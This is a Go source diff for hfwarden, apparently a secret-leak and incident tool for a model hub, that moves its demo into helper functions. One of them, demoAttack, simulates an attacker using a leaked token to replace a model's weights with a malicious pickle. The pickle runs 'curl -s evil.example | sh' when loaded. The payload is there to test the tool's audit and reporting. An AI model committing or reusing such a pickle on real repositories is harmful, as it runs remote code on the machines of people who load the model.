@@ -19,10 +19,13 @@ import (
 	"github.com/hfwarden/hfwarden/internal/assess"
 	"github.com/hfwarden/hfwarden/internal/audit"
 	"github.com/hfwarden/hfwarden/internal/detect"
+	"github.com/hfwarden/hfwarden/internal/finding"
 	"github.com/hfwarden/hfwarden/internal/hub"
 	"github.com/hfwarden/hfwarden/internal/hubsim"
+	"github.com/hfwarden/hfwarden/internal/incident"
 	"github.com/hfwarden/hfwarden/internal/incidentreport"
 	"github.com/hfwarden/hfwarden/internal/scan"
+	"github.com/hfwarden/hfwarden/internal/store"
 	"github.com/hfwarden/hfwarden/internal/termsafe"
 )
 
@@ -102,19 +105,7 @@ func runDemo(ctx context.Context, e *env, out string) error {
 	}
 	verifier := &assess.Verifier{Client: c}
 
-	// Scan the history and the work tree, verify, record.
-	opt := scan.Options{Detect: detect.Options{}}
-	hist, _, err := scan.New(opt).RunGit(ctx, []string{repo}, scan.GitOptions{CacheDir: filepath.Join(out, "cache"), Full: true})
-	if err != nil {
-		return err
-	}
-	tree, _, err := scan.New(opt).Run(ctx, []string{repo})
-	if err != nil {
-		return err
-	}
-	all := append(hist, tree...)
-	scan.Verify(ctx, all, verifier, nil, 2)
-	res, err := st.RecordScan(ctx, "demo", all, time.Now().UTC())
+	all, res, err := demoScan(ctx, st, verifier, repo, filepath.Join(out, "cache"))
 	if err != nil {
 		return err
 	}
@@ -133,21 +124,9 @@ func runDemo(ctx context.Context, e *env, out string) error {
 		fmt.Fprintf(e.stdout, "      %s\n", why)
 	}
 
-	// While the token was out, somebody used it: swap a model's weights for
-	// a pickle that runs a command when loaded. The audit must say so.
-	var target string
-	for _, rp := range r.Repos {
-		if rp.Type == hub.RepoModel && (rp.Access == assess.Write || rp.Access == assess.Admin) {
-			target = rp.ID
-			break
-		}
-	}
-	if target == "" {
-		return fmt.Errorf("the demo token can write no model")
-	}
-	payload := []byte("\x80\x02cposix\nsystem\nq\x00X\x1a\x00\x00\x00curl -s evil.example | shq\x01\x85q\x02Rq\x03.")
-	if _, err := c.Commit(ctx, leaked, hub.RepoModel, target, "main", "Update weights", map[string][]byte{"pytorch_model.bin": payload}, nil); err != nil {
-		return fmt.Errorf("playing the attacker: %w", err)
+	target, err := demoAttack(ctx, c, leaked, r)
+	if err != nil {
+		return err
 	}
 	step("an attacker used the leaked token: %s/pytorch_model.bin now holds a pickle that runs a shell command", target)
 
@@ -188,31 +167,8 @@ func runDemo(ctx context.Context, e *env, out string) error {
 		return err
 	}
 	path := filepath.Join(out, "report.html")
-	f, err := os.Create(path)
+	data, err := demoReport(ctx, st, in, occ, ev, path)
 	if err != nil {
-		return err
-	}
-	bw := bufio.NewWriter(f)
-	au, auAt, err := st.Audit(ctx, id)
-	if err != nil {
-		return err
-	}
-	data := incidentreport.Data{Incident: *in, Occurrences: occ, Events: ev, Assessment: in.Assessment, Generated: time.Now().UTC(), Audit: incidentreport.FromAudit(au, auAt)}
-	if data.Scans, err = st.ScanRuns(ctx, in.FirstSeen); err != nil {
-		return err
-	}
-	if data.Linked, err = linkedSecrets(ctx, st, *in, occ); err != nil {
-		return err
-	}
-	if err := incidentreport.HTML(bw, data); err != nil {
-		f.Close()
-		return err
-	}
-	if err := bw.Flush(); err != nil {
-		f.Close()
-		return err
-	}
-	if err := f.Close(); err != nil {
 		return err
 	}
 	step("report: %s", path)
@@ -222,6 +178,85 @@ func runDemo(ctx context.Context, e *env, out string) error {
 	fmt.Fprintf(e.stdout, "\nincident #%d is %s. Look around:\n  %s incidents list %s\n  %s incidents show %d %s\n  %s report %d -f md %s\n  %s %s\n",
 		id, in.State, self, dbArg, self, id, dbArg, self, id, dbArg, opener(), shellQuote(path))
 	return nil
+}
+
+// demoScan scans the demo repository's history (caching in cacheDir) and
+// work tree, verifies what it found and records it.
+func demoScan(ctx context.Context, st store.Store, verifier *assess.Verifier, repo, cacheDir string) ([]finding.Finding, store.ScanResult, error) {
+	opt := scan.Options{Detect: detect.Options{}}
+	hist, _, err := scan.New(opt).RunGit(ctx, []string{repo}, scan.GitOptions{CacheDir: cacheDir, Full: true})
+	if err != nil {
+		return nil, store.ScanResult{}, err
+	}
+	tree, _, err := scan.New(opt).Run(ctx, []string{repo})
+	if err != nil {
+		return nil, store.ScanResult{}, err
+	}
+	all := append(hist, tree...)
+	scan.Verify(ctx, all, verifier, nil, 2)
+	res, err := st.RecordScan(ctx, "demo", all, time.Now().UTC())
+	if err != nil {
+		return nil, store.ScanResult{}, err
+	}
+	return all, res, nil
+}
+
+// demoAttack plays the attacker: while the token was out, somebody used
+// it to swap the weights of a model it can write (r's first) for a pickle
+// that runs a command when loaded. The audit must say so. It returns the
+// model's id.
+func demoAttack(ctx context.Context, c *hub.Client, leaked string, r *assess.Report) (string, error) {
+	var target string
+	for _, rp := range r.Repos {
+		if rp.Type == hub.RepoModel && (rp.Access == assess.Write || rp.Access == assess.Admin) {
+			target = rp.ID
+			break
+		}
+	}
+	if target == "" {
+		return "", fmt.Errorf("the demo token can write no model")
+	}
+	payload := []byte("\x80\x02cposix\nsystem\nq\x00X\x1a\x00\x00\x00curl -s evil.example | shq\x01\x85q\x02Rq\x03.")
+	if _, err := c.Commit(ctx, leaked, hub.RepoModel, target, "main", "Update weights", map[string][]byte{"pytorch_model.bin": payload}, nil); err != nil {
+		return "", fmt.Errorf("playing the attacker: %w", err)
+	}
+	return target, nil
+}
+
+// demoReport writes incident in's HTML report to path and returns the
+// data it holds.
+func demoReport(ctx context.Context, st store.Store, in *incident.Incident, occ []incident.Occurrence, ev []incident.Event, path string) (incidentreport.Data, error) {
+	f, err := os.Create(path)
+	if err != nil {
+		return incidentreport.Data{}, err
+	}
+	bw := bufio.NewWriter(f)
+	au, auAt, err := st.Audit(ctx, in.ID)
+	if err != nil {
+		f.Close()
+		return incidentreport.Data{}, err
+	}
+	data := incidentreport.Data{Incident: *in, Occurrences: occ, Events: ev, Assessment: in.Assessment, Generated: time.Now().UTC(), Audit: incidentreport.FromAudit(au, auAt)}
+	if data.Scans, err = st.ScanRuns(ctx, in.FirstSeen); err != nil {
+		f.Close()
+		return incidentreport.Data{}, err
+	}
+	if data.Linked, err = linkedSecrets(ctx, st, *in, occ); err != nil {
+		f.Close()
+		return incidentreport.Data{}, err
+	}
+	if err := incidentreport.HTML(bw, data); err != nil {
+		f.Close()
+		return incidentreport.Data{}, err
+	}
+	if err := bw.Flush(); err != nil {
+		f.Close()
+		return incidentreport.Data{}, err
+	}
+	if err := f.Close(); err != nil {
+		return incidentreport.Data{}, err
+	}
+	return data, nil
 }
 
 // clearDemoDir removes an earlier demo run's files from dir and says how
